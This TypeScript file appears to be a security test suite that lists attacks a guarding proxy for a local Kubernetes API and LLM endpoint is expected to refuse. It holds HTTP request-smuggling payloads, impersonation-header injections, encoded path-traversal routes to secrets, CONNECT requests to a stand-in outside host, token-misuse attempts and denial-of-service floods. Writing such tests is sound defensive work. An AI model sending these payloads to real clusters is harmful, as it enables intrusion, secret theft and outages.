import type { Attempt } from './attempts.ts';

/**
 * `raw kube|llm|PATH [REPEAT]` writes its standard input (of printf, so that `\r\n` and `\0` are what they say) into one connection to a
 * door and prints what comes back. It fails unless the last answer is a success. `auth` is the header with the token.
 */
export const RAW_PRELUDE = `
auth="Authorization: Bearer $TOKEN"
cat > /tmp/raw.py <<'PY'
import re, socket, ssl, sys
door = sys.argv[1]
def connect():
    plain = socket.create_connection(('127.0.0.1', 7443 if door == 'kube' else 7080), 5)
    if door != 'kube': return plain
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    if len(sys.argv) > 2: context.set_alpn_protocols([sys.argv[2]])
    return context.wrap_socket(plain)
answer = b''
try:
    connection = connect(); connection.settimeout(4)
    connection.sendall(sys.stdin.buffer.read())
    while len(answer) < 2000000:
        part = connection.recv(65536)
        if not part: break
        answer += part
except OSError as error: print(error)
sys.stdout.buffer.write(answer)
statuses = re.findall(rb'HTTP/1\\.[01] (\\d{3}) ', answer)
sys.exit(0 if statuses and statuses[-1].startswith(b'2') else 1)
PY
raw() { python3 /tmp/raw.py "$@"; }
`;

const HEAD = 'Host: x\\r\\n%s\\r\\n';
const END = 'Connection: close\\r\\n\\r\\n';
const REVIEW = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const REVIEW_BODY = `{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{}}`;
const DELETE = `DELETE /api/v1/namespaces/shop/pods/x HTTP/1.1\\r\\n${HEAD}${END}`;

/** Sends a text, in which `%s` is the header with the token. */
function sent(name: string, text: string, door = 'kube'): Attempt {
  const tokens = '"$auth" '.repeat(text.split('%s').length - 1);
  return { name, command: `printf '${text}' ${tokens}| raw ${door}` };
}

/** Two requests in one connection, and bodies whose end two parsers see differently: the second request is the one that must not pass. */
const SMUGGLED: Attempt[] = [
  sent('a pipelined delete', `GET /api/v1/pods HTTP/1.1\\r\\n${HEAD}\\r\\n${DELETE}`),
  sent(
    'a delete in the body of a GET',
    `GET /api/v1/pods HTTP/1.1\\r\\n${HEAD}Content-Length: 100\\r\\n\\r\\n${DELETE}`,
  ),
  sent(
    'length and chunks',
    `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${DELETE}`,
  ),
  ...['Transfer-Encoding : chunked', 'Transfer-Encoding: xchunked', 'Transfer-Encoding:\\tchunked, identity'].map(
    (header) =>
      sent(
        header,
        `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\n${header}\\r\\nContent-Length: 4\\r\\n\\r\\n5c\\r\\n${DELETE}`,
      ),
  ),
  sent(
    'two lengths',
    `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\nContent-Length: 0\\r\\nContent-Length: 90\\r\\n\\r\\n${DELETE}`,
  ),
  sent(
    'a chunk of negative length',
    `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n-1\\r\\n${DELETE}`,
  ),
  sent(
    'a chunk extension with a line of its own',
    `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;a=\\n\\r\\n{}\\r\\n0\\r\\n\\r\\n${DELETE}`,
  ),
  sent(
    'trailers that impersonate',
    `POST ${REVIEW} HTTP/1.1\\r\\n${HEAD}Content-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Impersonate-User\\r\\n\\r\\n2\\r\\n{}\\r\\n0\\r\\nImpersonate-User: admin\\r\\n\\r\\n`,
  ),
  sent('lines that end with LF alone', 'GET /api/v1/secrets HTTP/1.1\\nHost: x\\n%s\\n\\n'),
  sent('a folded header', `GET /api/v1/pods HTTP/1.1\\r\\nHost: x\\r\\n%s\\r\\n Impersonate-User: admin\\r\\n${END}`),
  sent('a space before the colon', `GET /api/v1/pods HTTP/1.1\\r\\n${HEAD}Impersonate-User : admin\\r\\n${END}`),
  sent('a CR in a header', `GET /api/v1/pods HTTP/1.1\\r\\n${HEAD}X: a\\rImpersonate-User: admin\\r\\n${END}`),
  sent('two tokens', `GET /api/v1/pods HTTP/1.1\\r\\n${HEAD}Authorization: Bearer other\\r\\n${END}`),
  sent('HTTP/1.0', 'GET /api/v1/secrets HTTP/1.0\\r\\n%s\\r\\n\\r\\n'),
  sent('HTTP/0.9', 'GET /api/v1/secrets\\r\\n'),
  sent('HTTP/2 without a negotiation', 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'),
  { name: 'HTTP/2 by ALPN', command: `printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | raw kube h2` },
  { name: 'HTTP to the door of TLS', command: 'curl -s --fail --max-time 3 http://127.0.0.1:7443/api/v1/secrets' },
  sent('a NUL in the path', `GET /api/v1/pods\\0/../secrets HTTP/1.1\\r\\n${HEAD}${END}`),
  sent('a tab in the path', `GET /api/v1/secrets\\t HTTP/1.1\\r\\n${HEAD}${END}`),
  sent('letters beyond ASCII in the path', `GET /api/v1/\\305\\277ecrets HTTP/1.1\\r\\n${HEAD}${END}`),
  sent('the method in lower case', `delete /api/v1/namespaces/shop/pods/x HTTP/1.1\\r\\n${HEAD}${END}`),
  sent(
    'exec over a websocket',
    `GET /api/v1/namespaces/shop/pods/x/exec?command=id HTTP/1.1\\r\\n${HEAD}Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Protocol: v5.channel.k8s.io\\r\\n\\r\\n`,
  ),
  sent(
    'exec over SPDY',
    `POST /api/v1/namespaces/shop/pods/x/exec?command=id HTTP/1.1\\r\\n${HEAD}Connection: Upgrade\\r\\nUpgrade: SPDY/3.1\\r\\n\\r\\n`,
  ),
  sent(
    'a websocket to a path that may be read',
    `GET /api/v1/pods?watch=true HTTP/1.1\\r\\n${HEAD}Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n`,
  ),
  sent(
    'the token as a websocket protocol',
    `GET /api/v1/pods HTTP/1.1\\r\\nHost: x\\r\\nSec-WebSocket-Protocol: base64url.bearer.authorization.k8s.io.eA\\r\\n${END}`,
  ),
  sent(
    'a pipelined request to another provider',
    `POST /v1/messages HTTP/1.1\\r\\n${HEAD}Content-Length: 2\\r\\n\\r\\n{}POST /v1/files HTTP/1.1\\r\\n${HEAD}Content-Length: 0\\r\\n${END}`,
    'llm',
  ),
  sent('an absolute target', `POST http://leaked.example.com/v1/messages HTTP/1.1\\r\\n${HEAD}${END}`, 'llm'),
  sent('CONNECT to the internet', `CONNECT leaked.example.com:443 HTTP/1.1\\r\\n${HEAD}\\r\\n`, 'llm'),
  sent(
    'a real-time websocket',
    `GET /v1/realtime HTTP/1.1\\r\\n${HEAD}Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n`,
    'llm',
  ),
];

/** Other names of what is denied. */
const PATHS: Attempt[] = [
  '/api/v1/%2573ecrets',
  '/api/v1/namespaces/shop/pods/%2e%2e/secrets',
  '/api/v1/namespaces/shop/pods/%2E%2E%2Fsecrets',
  '/api/v1/namespaces/shop/pods/..%252fsecrets',
  '/api/v1/namespaces/shop/pods/%c0%ae%c0%ae/secrets',
  '/api/v1/namespaces%2fshop%2fsecrets',
  '/api/v1/secrets%00',
  '/api/v1/secrets%20',
  '/api/v1/secrets/',
  '/api/v1/./secrets',
  '/api/v1/secrets#/pods',
  '/api/v1\\secrets',
  '/API/v1/secrets',
  '/%61pi/v1/secrets',
  '/api/v1/namespaces/shop/secret',
  '/apis/v1/secrets',
  '/apis//v1/secrets',
  '/api/v1/proxy/namespaces/shop/pods/x/',
  '/api/v1/watch/namespaces/shop/secrets/db',
  '/api/v1/namespaces/shop/pods/x/log/../exec',
  '/api/v1/namespaces/shop/pods/x/log/',
  '/api/v1/namespaces/shop/pods/x/proxy/healthz',
  '/api/v1/namespaces/shop/services/cart/proxy',
  '/api/v1/nodes/node-1/proxy/logs/',
  '/apis/cluster.karmada.io/v1alpha1/clusters/member/proxy/api/v1/secrets',
  '/apis/subresources.kubevirt.io/v1/namespaces/shop/virtualmachineinstances/x/console',
  '/apis/image.openshift.io/v1/namespaces/shop/imagestreams/x/secrets',
  '/apis/apps/v1/namespaces/shop/deployments/cart/scale',
  '/openapi/../api/v1/secrets',
  '/version/../api/v1/secrets',
  '/healthz/../api/v1/secrets',
  '/configz',
  '/metrics/slis',
  '/debug/flags/v',
  '/.well-known/openid-configuration',
  '/openid/v1/jwks',
].map((path) => ({ name: `GET ${path}`, command: `kube GET '${path}'` }));

const QUERIES: Attempt[] = [
  ['an unknown parameter', '/api/v1/pods?_method=DELETE'],
  ['impersonation in the query', '/api/v1/pods?as=system:admin'],
  ['the token in the query', '/api/v1/pods?access_token=$TOKEN'],
  ['a parameter twice', '/api/v1/pods?limit=1&limit=2'],
  ['a dry run', '/api/v1/pods?dryRun=All'],
  ['a deletion in the query', '/api/v1/pods?propagationPolicy=Background'],
  ['a log without a check of the kubelet', '/api/v1/namespaces/shop/pods/x/log?insecureSkipTLSVerifyBackend=true'],
  ['a semicolon', '/api/v1/pods?limit=1;watch=true'],
  ['a line in the query', '/api/v1/pods?labelSelector=a%0d%0aImpersonate-User:%20admin'],
].map(([name = '', path = '']) => ({ name: `query: ${name}`, command: `kube GET "${path}"` }));

const SECRETS_IN = /hunter2-of-the-database|c2VjcmV0LWluLWFubm90YXRpb24/;

/** Answers in other forms may be given, but hold no secrets. */
const FORMS: Attempt[] = [
  'application/json;as=Table;v=v1;g=meta.k8s.io',
  'application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io',
  'application/vnd.kubernetes.protobuf',
  'application/vnd.kubernetes.protobuf;stream=watch',
  'application/cbor',
  'application/yaml',
  'text/plain, application/json;q=0.1',
  '*/*;q=0, application/yaml',
].flatMap((accept): Attempt[] => [
  {
    name: `secrets as ${accept}`,
    command: `kube GET /api/v1/secrets -H 'Accept: ${accept}'`,
  },
  {
    name: `pods as ${accept}`,
    command: `kube GET '/api/v1/pods?includeObject=Object' -H 'Accept: ${accept}'; true`,
    never: SECRETS_IN,
  },
]);

const BODIES: Attempt[] = [
  ['a review of another subject', '/apis/authorization.k8s.io/v1/subjectaccessreviews', REVIEW_BODY],
  ['a review of a token', '/apis/authentication.k8s.io/v1/tokenreviews', '{}'],
  [
    'a pod at the path of a review',
    REVIEW,
    '{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x","namespace":"shop"}}',
  ],
  ['a list at the path of a review', REVIEW, '[]'],
  ['YAML at the path of a review', REVIEW, 'kind: SelfSubjectAccessReview'],
].map(([name = '', path = '', body = '']) => ({
  name,
  command: `kube POST ${path} -H 'content-type: application/json' -d '${body}'`,
}));

const SIZES: Attempt[] = [
  {
    name: 'a path of 1 MB',
    command: `raw_path=$(head -c 1000000 /dev/zero | tr '\\0' a); printf 'GET /api/v1/%s HTTP/1.1\\r\\nHost: x\\r\\n%s\\r\\n\\r\\n' "$raw_path" "$auth" | raw kube`,
  },
  {
    name: '10,000 headers',
    command: `{ printf 'GET /api/v1/pods HTTP/1.1\\r\\nHost: x\\r\\n%s\\r\\n' "$auth"; for i in $(seq 10000); do printf 'X-%d: x\\r\\n' $i; done; printf '\\r\\n'; } | raw kube`,
  },
  {
    name: 'a review of 100 MB',
    command: `head -c 100M /dev/zero | kube POST ${REVIEW} -H 'content-type: application/json' --data-binary @-`,
  },
  {
    name: 'a request to the model of 100 MB',
    command: `head -c 100M /dev/zero | curl -s --fail --max-time 8 -H "$auth" --data-binary @- http://127.0.0.1:7080/v1/messages`,
  },
  {
    name: 'JSON that is nested 200,000 times',
    command: `python3 -c "print('{\\"model\\":\\"scripted\\",\\"max_tokens\\":1,\\"messages\\":' + '['*200000 + ']'*200000 + '}')" > /tmp/deep; llm /v1/messages @/tmp/deep`,
  },
  {
    name: '2,000 connections that send nothing',
    command: `python3 -c "
import socket
open_ones = []
for i in range(2000):
    try: open_ones.append(socket.create_connection(('127.0.0.1', 7443), 1))
    except OSError: break
"; true`,
    never: /nothing/,
  },
];

const CREDENTIALS: Attempt[] = [
  ['the token with more behind it', 'TOKEN="$TOKEN x" kube GET /api/v1/pods'],
  ['the token as a password', `curl -sk --fail --max-time 3 -u "x:$TOKEN" https://127.0.0.1:7443/api/v1/pods`],
  ['the token as a cookie', `curl -sk --fail --max-time 3 -b "token=$TOKEN" https://127.0.0.1:7443/api/v1/pods`],
  ['the hash of the token', `TOKEN=$(printf %s "$TOKEN" | sha256sum | cut -d' ' -f1) kube GET /api/v1/pods`],
  ['the token of a run that goes on, of another incident', 'TOKEN=$OTHER kube GET /api/v1/pods'],
  [
    'a model with the token of another incident',
    `TOKEN=$OTHER llm /v1/messages '{"model":"scripted","max_tokens":1,"messages":[{"role":"user","content":"x"}]}'`,
  ],
].map(([name = '', command = '']) => ({ name, command }));

export const PROTOCOL_ATTEMPTS: readonly Attempt[] = [
  ...SMUGGLED,
  ...PATHS,
  ...QUERIES,
  ...FORMS,
  ...BODIES,
  ...SIZES,
  ...CREDENTIALS,
];
